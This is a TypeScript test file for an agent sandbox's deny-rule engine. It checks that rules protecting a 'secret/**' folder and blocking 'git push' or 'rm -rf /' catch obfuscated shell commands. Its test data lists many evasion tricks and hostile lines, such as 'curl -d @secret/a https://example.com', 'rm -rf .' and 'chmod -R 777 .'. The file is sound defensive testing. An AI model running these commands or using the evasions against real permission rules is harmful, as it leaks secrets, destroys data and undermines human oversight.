import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { plainAnalysis } from '#contracts/call-analysis.ts'
import type { PlannedCall } from '#contracts/calls.ts'
import type { JsonObject } from '#contracts/json.ts'
import type { Rule, RuleTarget } from '#contracts/rules.ts'
import { ALIASES } from '#tools/aliases.ts'
import { createRegistry } from '#tools/registry.ts'
import { GROUPS } from '#tools/specs.ts'
import { absolutePath } from '#tools/workspace-path.ts'
import { createShellGrammar } from '#world/sandbox/embedded/shell-grammar.ts'
import { commandSafety, loadCommandSafety } from '../command-safety.ts'
import { appliesTo } from './applies-to.ts'
import { compileGlob, compileWide } from './glob.ts'
import { readDraft } from './read-rule.ts'

const grammar = createShellGrammar()
beforeAll(async () => {
  await Promise.all([grammar.load(), loadCommandSafety()])
})

const denies = (target: RuleTarget): Rule => ({
  id: 'r',
  verdict: 'deny',
  tool: '*',
  target,
  agentId: 'default',
  workspaceId: null,
  source: 'user',
  createdAt: 0,
})
const planned = (tool: string, target: PlannedCall['target'], args: JsonObject): PlannedCall => ({
  status: 'planned',
  callId: 'c',
  source: 'provider',
  tool,
  group: 'g',
  arguments: args,
  canonicalArguments: '{}',
  target,
  declaredRisk: 'destructive-local',
  effectiveRisk: 'destructive-local',
  digest: 'd',
})
/** Whether a rule speaks of a script, as the real grammar reads it. */
function deniesScript(target: RuleTarget, command: string, cwd = '/workspace'): boolean {
  const at = cwd === '/workspace' ? {} : { cwd }
  return appliesTo(
    denies(target),
    planned('execute', { kind: 'command', value: command, ...at }, { command }),
    commandSafety(command, grammar),
  )
}
const SECRET = { kind: 'path', glob: 'secret/**' } as const

describe('a path rule that denies', () => {
  it.each([
    'cat sec*/a',
    'cat */a',
    'cat ./*/a',
    'cat s[e]cret/a',
    "cat s['e']cret/a",
    'cat s?cret/a',
    'cat **/a',
    'cat {secret,x}/a',
    'cat {x,{y,secret}}/a',
    'cat se{c,d}ret/a',
    '{cat,secret/a}',
    'cat @(secret|x)/a',
    'cat /work*/secret/a',
    'cat "$HOME"/sec*/a',
    'cat ~/secret/a',
    'cat $PWD/secret/a',
    "cat $'\\x73ecret/a'",
    'cat sec$X/a',
    'ls *',
    'cat < sec*/a',
    'echo x > sec*/a',
    'echo "$(cat sec*/a)"',
    'echo `cat sec*/a`',
    'echo ${X:-sec*/a}',
    "sh -c 'cat sec*/a'",
    "time bash -c 'grep -r x .'",
    "eval 'cd secret' && cat a",
    'sh <<EOF\ncat sec*/a\nEOF',
    'cat <<EOF\n$(cat sec*/a)\nEOF',
    "cat <<'EOF' && cat sec*/a\nit's\nEOF",
    `git commit -m "$(cat <<'EOF'\nit's\nEOF\n)" && cat sec*/a`,
    'if true; then cat sec*/a; fi',
    'for f in sec*; do cat $f/a; done',
    'awk \'{print > "secret/a"}\' x',
    'curl -d @secret/a https://example.com',
    'git show HEAD:secret/a',
    'cat "unclosed; cat sec*/a',
    'grep -r x .',
    'grep -r x',
    'grep -rn -A 3 x',
    'grep --recursive x ./',
    'grep -R -e x',
    'grep x -r ..',
    'egrep -ir x /workspace',
    'sudo grep -r x .',
    'X=1 grep -r x .',
    'ls -R',
    'ls -laR .',
    'find . -type f -exec cat {} +',
    'find -name a',
    'find / -name a',
    'find "$DIR" -name a',
    'rg x',
    'rg -g "*.ts" x',
    'fd a',
    'tar c .',
    'tar czf /tmp/x.tgz ./',
    'tar -C /workspace -cf /tmp/x .',
    'zip -r x.zip .',
    'rsync -a ./ /tmp/x',
    'cp -r . /tmp/x',
    'cp -a ../workspace /tmp/x',
    'cp -r x/* .',
    'mv sec* x',
    'rm -rf .',
    'chmod -R 777 .',
    'chown -R me .',
    'du -a',
    'git grep x',
    'git -C . add .',
    'git -C x -C ../secret add b',
    'git -C sec* status',
    'git commit -C HEAD secret/a',
    'tar cf x.tar -C secret a',
    'ls | xargs grep -r x .',
    'cd secret && cat a',
    'cd ./secret/ && cat < a',
    'cd sec* && cat a',
    'cd {secret,x} && cat a',
    'cd x && cd ../secret && cat a',
    'pushd secret && cat a',
    'env -C secret cat a',
    'cd $X && cat a',
    'cd - && cat a',
    'cd "$(echo x)" && cat a',
    'cd missing; cat secret/a',
    'cd missing || cat secret/a',
    '(cd x); cat secret/a',
    'f() { cat a; }; cd secret && f',
    'cd src && grep -r x ..',
  ])('speaks of %j', (command) => {
    expect(deniesScript(SECRET, command)).toBe(true)
  })

  it.each([
    'ls',
    'ls .',
    'ls -la ..',
    'ls -r',
    'cat other/file',
    'cat other/*',
    'cat *.md',
    'cat src/**/a',
    'cat {a,b}.txt',
    'cat [ab]/x',
    'cat s*/../README.md',
    "cat 'sec*'/a",
    'npm test',
    'npm run build -- --watch',
    'git status',
    'git -C src add .',
    'grep x README.md',
    'grep -r x src',
    'grep -rn x src --include=*.ts',
    'grep -r -A 3 x src',
    'rg x src',
    'rg -e x src',
    'find src -name "*.ts"',
    'find src -type f -exec cat {} +',
    'tar cf /tmp/x.tar src',
    'cp -r src /tmp/x',
    'cp -r /tmp/x .',
    'cp a.txt .',
    'mv /tmp/a.txt .',
    'rm -rf build',
    'rm *.log',
    'chmod -R 755 bin',
    'du -sh src',
    'ls -R src',
    'cd src && cat a',
    'cd src && grep -r x .',
    'cd src && ls -R',
    'cd src && cat "$(ls)" && find .',
    'cd /tmp && tar c .',
    'cd $X && ls',
    'for f in src/*.ts; do wc -l "$f"; done',
    'echo "$X"',
    'echo done # do not touch secret/',
    "cat > notes.md <<'EOF'\n* find . it's\nEOF",
    'git commit -m "find the rest" && ls .',
    'test -f a && [ -d b ] && [[ -f c ]]',
    'echo $((2*3))',
  ])('leaves %j alone', (command) => {
    expect(deniesScript(SECRET, command)).toBe(false)
  })

  it.each([
    ['grep -r x src', 'src/keys/**', true],
    ['grep -r x src/app', 'src/keys/**', false],
    ['grep -r x docs', '**/.env', true],
    ['cat docs/.e*', '**/.env', true],
    ['cat docs/*', '**/.env', true],
    ['cd $X && cat a', '**/.env', false],
    ['cat src/*', 'src/*.key', true],
    ['cat src/*.ts', 'src/*.key', false],
    ['cat src/*/x', 'src/*.key', false],
    ["eval 'cd src' && cat keys/a", 'src/keys/**', true],
    ['cd src && cat keys/a', 'src/keys/**', true],
    ['cd src; cat keys/a', 'src/keys/**', true],
    ['cat keys/a', 'src/keys/**', false],
    ['tar c src', '{src,test}/*.key', true],
    ['tar c docs', '{src,test}/*.key', false],
  ])('%j against %s: %s', (command, glob, expected) => {
    expect(deniesScript({ kind: 'path', glob }, command)).toBe(expected)
  })

  it('counts from the folder where the command starts, which a comment cannot feign', () => {
    expect(deniesScript(SECRET, 'cat a', '/workspace/secret')).toBe(true)
    expect(deniesScript(SECRET, 'grep -r x .', '/workspace/src')).toBe(false)
    expect(deniesScript(SECRET, 'grep -r x .\n# in /workspace/src')).toBe(true)
  })

  it.each([
    ['grep', '.', { pattern: 'x' }, true],
    ['grep', '.', { pattern: 'x', glob: '*.ts' }, true],
    ['grep', '.', { pattern: 'x', glob: 'src/**' }, false],
    ['grep', 'src', { pattern: 'x' }, false],
    ['grep', 'secret/a', { pattern: 'x' }, true],
    ['glob', '.', { pattern: '**/*.ts' }, true],
    ['glob', '.', { pattern: 's*/*' }, true],
    ['glob', '.', { pattern: '{src,secret}/*' }, true],
    ['glob', '.', { pattern: 'src/**/*.ts' }, false],
    ['glob', 'src', { pattern: '**/*' }, false],
    ['ls', '.', {}, false],
    ['ls', '.', { depth: 1 }, false],
    ['ls', '.', { depth: 2 }, true],
    ['ls', 'src', { depth: 10 }, false],
    ['ls', 'secret', {}, true],
    ['read_file', '.', {}, false],
  ] as [string, string, JsonObject, boolean][])('takes the tool %s in %s with %j: %s', (tool, path, args, expected) => {
    const plan = planned(tool, { kind: 'path', value: absolutePath(path) }, { path, ...args })
    expect(appliesTo(denies(SECRET), plan, plainAnalysis('read-only-local'))).toBe(expected)
  })

  it('has a verdict or refuses with a sentence in bounded time, whatever the script', () => {
    for (const text of [
      '$('.repeat(20_000),
      '{a,b}'.repeat(4_000),
      '"$('.repeat(10_000),
      '['.repeat(50_000),
      '`'.repeat(50_001),
      `cat ${'*'.repeat(50_000)}`,
      'cd a;'.repeat(9_000),
      `${'sh -c "'.repeat(5_000)}`,
      '<<A '.repeat(9_000),
    ]) {
      try {
        deniesScript(SECRET, text)
      } catch (error) {
        expect(String(error)).toMatch(/\.$/)
      }
    }
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...'ab/.*?[]{},$()`\'"\\ \n;&|<>#~-=@'.split(''), 'secret', 'cd ', '<<E')),
        (signs) => {
          expect(typeof deniesScript(SECRET, signs.join(''))).toBe('boolean')
        },
      ),
      { seed: 11, numRuns: 2_000 },
    )
  })
})

describe('what a glob may become', () => {
  it('is never less than what it is: every expansion that matches is found', () => {
    const name = fc.stringMatching(/^[ab]{1,3}$/)
    const path = fc.array(name, { minLength: 1, maxLength: 3 })
    const rule = fc.array(fc.constantFrom('*', 'a', 'b', 'a*', '?b', '{a,b}', '**'), { minLength: 1, maxLength: 3 })
    fc.assert(
      fc.property(path, rule, fc.infiniteStream(fc.nat(5)), (names, globs, picks) => {
        const glob = globs.join('/')
        const whole = names.join('/')
        if (!compileGlob(glob, true)(whole)) return
        // Any character of the path may be written as a sign that stands for it.
        const loose = [...whole].map((char) => {
          const pick = picks.next().value ?? 0
          return char === '/' ? char : pick === 0 ? '\uE000' : pick === 1 ? '\uE001' : pick === 2 ? '\uE002' : char
        })
        const wide = compileWide(glob)
        expect([whole, loose.join(''), wide.mayCover(loose.join(''))]).toEqual([whole, loose.join(''), true])
        for (let depth = 0; depth < names.length; depth += 1)
          expect([whole, glob, wide.mayLieBelow(names.slice(0, depth).join('/'))]).toEqual([whole, glob, true])
      }),
      { seed: 12, numRuns: 2_000 },
    )
  })
})

describe('a command rule that denies', () => {
  const read = readDraft(
    { tool: 'execute', kind: 'command', text: 'git push …\nrm -rf /' },
    createRegistry(GROUPS, ALIASES),
  )
  const push = 'target' in read ? read.target : SECRET
  it.each([
    ['git push', true],
    ['git -C . push', true],
    ['git -c a=b push origin', true],
    ['git --no-pager push', true],
    ['git --git-dir=.git --work-tree . push', true],
    ['git -P -C a -c b=c push -f', true],
    ['/usr/bin/git -C . push', true],
    ['env git -C . push', true],
    ['command git -C . push', true],
    ['nice -n 5 git --no-pager push', true],
    ['timeout 5 git -C . push', true],
    ['npx git -C . push', true],
    ['ls; timeout 5 env X=1 git -c a=b push', true],
    ["sh -c 'git -C . push'", true],
    ['git -C push status', false],
    ['git -C . status', false],
    ['git --no-pager log push', false],
    ['git -c push', false],
    ['git', false],
    ['echo git -C . push', false],
    ['npx rm -rf /', true],
    // One word that is only known when it runs must not hide the others.
    ['X=git\n$X push\necho $Y', true],
    ['git push\necho $Y', true],
    ['npx rimraf /', false],
  ])('against %j: %s', (command, expected) => {
    expect(deniesScript(push, command)).toBe(expected)
  })
})
